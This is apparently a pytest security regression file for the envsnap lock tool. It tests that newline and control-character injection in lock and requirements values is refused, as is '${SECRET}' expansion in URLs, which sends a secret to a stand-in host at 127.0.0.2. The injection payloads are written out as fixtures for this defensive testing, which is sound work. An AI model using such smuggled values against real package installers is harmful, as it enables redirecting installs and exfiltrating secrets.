"""Issue 20 items 2 and 3: nothing read from a lock adds a line to pip's input or expands.

Item 2, the attack: a pylock ``vcs.url`` holding newlines added ``--index-url
http://<another host>/simple/``, ``--trusted-host`` and an unlisted sdist to the
requirements file envsnap handed to pip. Now a value holding a control
character is refused where it is read (exit 2, naming its key), and every
line envsnap writes for pip or uv goes through one checking function
(:func:`envsnap.lockfiles.requirements.write.pip_line`).

Item 3, the attack: ``sdp @ http://.../sdp-1.0.tar.gz?k=${SECRET}`` went to pip
as written; pip expanded the variable and sent the secret to the host. Now a
``${NAME}`` anywhere in what an installer would read is refused before
anything is built, and errors quoting URLs have their credentials masked.

127.0.0.2 stands in for another host: tests send traffic to loopback only.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from packaging.utils import canonicalize_name
from packaging.version import Version

from envsnap.api import requirements_of
from envsnap.cli import handle_errors
from envsnap.errors import InputError, OperationError
from envsnap.lock import Lock, LockedPackage, Origin
from envsnap.lockfiles.requirements.write import pip_line
from support.index import serve_index
from support.venvs import run_envsnap


@pytest.fixture
def other_host(tmp_path: Path) -> tuple[str, list[str]]:
    """An index on 127.0.0.2 (another host) that logs every request it gets."""
    log: list[str] = []
    files = tmp_path / "other-files"
    files.mkdir()
    with serve_index(files, log=log, host="127.0.0.2") as url:
        yield url, log


def _vcs_injection(url: str) -> str:
    injected = f"\\n--index-url {url}\\n--trusted-host 127.0.0.2\\nevil==1.0"
    return (
        'lock-version = "1.0"\ncreated-by = "tests"\n\n[[packages]]\nname = "vcsdep"\n'
        f'vcs = {{ type = "git", url = "https://127.0.0.1:9/vcsdep.git{injected}", '
        f'commit-id = "{"a" * 40}" }}\n'
    )


@pytest.mark.parametrize("installer", ["pip", "uv"])
def test_newlines_in_a_pylock_vcs_url_are_refused(
    tmp_path: Path, other_host: tuple[str, list[str]], installer: str
) -> None:
    url, log = other_host
    (tmp_path / "pylock.toml").write_text(_vcs_injection(url), encoding="utf-8")
    for dry in ([], ["--dry-run"]):
        done = run_envsnap("restore", "--venv", "new", "--installer", installer, *dry, cwd=tmp_path)
        assert done.returncode == 2, done.stderr
        assert done.stderr.splitlines() == [
            f"error: {tmp_path / 'pylock.toml'}: packages[0].vcs.url holds a control "
            "character (U+000A); refused",
            "hint: a lock's names, versions, URLs, paths and markers are one line of "
            "printable text each: regenerate the file",
        ]
        assert done.stdout == ""
    assert log == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other-files", "pylock.toml"]


@pytest.mark.parametrize(
    ("text", "where", "char"),
    [
        ("solo==1.0\nalpha==1.0 \x1b]0;pwned\x07\n", ":2:", "U+001B"),
        ("solo @ https://127.0.0.1:9/solo-1.0.tar.gz\x0b--index-url x\n", ":1:", "U+000B"),
        ("solo==1.0\u2028--trusted-host 127.0.0.2\n", ":1:", "U+2028"),
    ],
    ids=["esc", "vertical-tab", "line-separator"],
)
@pytest.mark.parametrize("command", ["restore", "check"])
def test_control_characters_in_a_requirements_file_are_refused(
    tmp_path: Path, text: str, where: str, char: str, command: str
) -> None:
    (tmp_path / "requirements.txt").write_text(text, encoding="utf-8")
    args = ["--venv", "new"] if command == "restore" else ["--no-env"]
    done = run_envsnap(command, "requirements.txt", *args, cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert f"error: requirements.txt{where} holds a control character ({char}); refused" in (
        done.stderr.splitlines()
    )
    assert "\x1b" not in done.stderr + done.stdout
    assert not (tmp_path / "new").exists()


def test_control_characters_in_an_included_file_are_refused(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("-r more.txt\n", encoding="utf-8")
    (tmp_path / "more.txt").write_text("solo==1.0\n\x00\n", encoding="utf-8")
    done = run_envsnap("restore", "--venv", "new", "--dry-run", cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines()[0] == (
        f"error: {tmp_path / 'more.txt'}:2: holds a control character (U+0000); refused"
    )


def test_every_installer_line_is_checked() -> None:
    """A Lock made in code (no reader to refuse it) still cannot add a line for pip."""
    package = LockedPackage(
        name=canonicalize_name("vcsdep"),
        display_name="vcsdep",
        version=Version("1.0"),
        origin=Origin(kind="archive", url="https://127.0.0.1:9/x.tar.gz\n--index-url x"),
        location="pylock.toml:4",
    )
    lock = Lock(path=Path("pylock.toml"), format="pylock", packages=(package,))
    with pytest.raises(InputError, match=r"^pylock.toml:4: a value holds a control character"):
        requirements_of(lock)
    with pytest.raises(InputError, match=r"^x: holds \$\{TOKEN\}, which pip and uv would"):
        pip_line("solo @ https://${TOKEN}@127.0.0.1:9/s.whl", source="x", installer=True)
    assert pip_line("a @ https://${TOKEN}@h/s.whl", source="x") == "a @ https://${TOKEN}@h/s.whl"


SECRET = "s3cr3t-value-of-the-env"


@pytest.mark.parametrize("installer", ["pip", "uv"])
def test_env_vars_are_never_handed_to_an_installer(
    tmp_path: Path, other_host: tuple[str, list[str]], installer: str
) -> None:
    url, log = other_host
    files = url.removesuffix("simple/") + "files"
    (tmp_path / "requirements.txt").write_text(
        f"solo==1.0\nsdp @ {files}/sdp-1.0.tar.gz?k=${{SECRET}}\n", encoding="utf-8"
    )
    done = run_envsnap(
        "restore",
        "--venv",
        "new",
        "--installer",
        installer,
        "--trusted-host",
        "127.0.0.2",
        cwd=tmp_path,
        env={"SECRET": SECRET},
    )
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines()[0] == (
        f"error: {tmp_path / 'requirements.txt'}:2: holds ${{SECRET}}, which pip and uv would "
        "replace with an environment variable's value; refused, nothing was built"
    )
    assert done.stderr.splitlines()[1].startswith("hint: envsnap never hands ${NAME} to")
    assert SECRET not in done.stdout + done.stderr
    assert log == []
    assert not (tmp_path / "new").exists()


def test_env_vars_in_a_pylock_or_an_include_are_refused(tmp_path: Path) -> None:
    (tmp_path / "pylock.toml").write_text(
        'lock-version = "1.0"\ncreated-by = "tests"\n\n[[packages]]\nname = "sdp"\n'
        'version = "1.0"\narchive = { url = "https://127.0.0.1:9/sdp-1.0.tar.gz?k=${SECRET}",'
        ' hashes = { sha256 = "' + "0" * 64 + '" } }\n',
        encoding="utf-8",
    )
    done = run_envsnap("restore", "--venv", "new", "--dry-run", cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines()[0] == (
        f"error: {tmp_path / 'pylock.toml'} (at packages[0].archive.url): holds ${{SECRET}}, "
        "which pip and uv would replace with an environment variable's value; refused, "
        "nothing was built"
    )
    (tmp_path / "requirements.txt").write_text(
        "-r more.txt\n--extra-index-url https://${USER}:${TOKEN}@127.0.0.1:9/simple/\n",
        encoding="utf-8",
    )
    (tmp_path / "more.txt").write_text("solo==1.0  # ${COMMENTED}\n", encoding="utf-8")
    done = run_envsnap("restore", "requirements.txt", "--venv", "new", cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines()[0] == (
        "error: requirements.txt:2: holds ${USER}, which pip and uv would replace with an "
        "environment variable's value; refused, nothing was built (and 2 more place(s))"
    )


def test_errors_mask_the_credentials_of_urls(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as ended, handle_errors():
        raise OperationError(
            "pip could not install https://user:hunter2@127.0.0.1:9/x.whl?token=abc",
            hint="see https://u:pw@127.0.0.1:9/simple/",
        )
    assert ended.value.code == 3
    assert capsys.readouterr().err.splitlines() == [
        "error: pip could not install https://127.0.0.1:9/x.whl?token=***",
        "hint: see https://127.0.0.1:9/simple/",
    ]
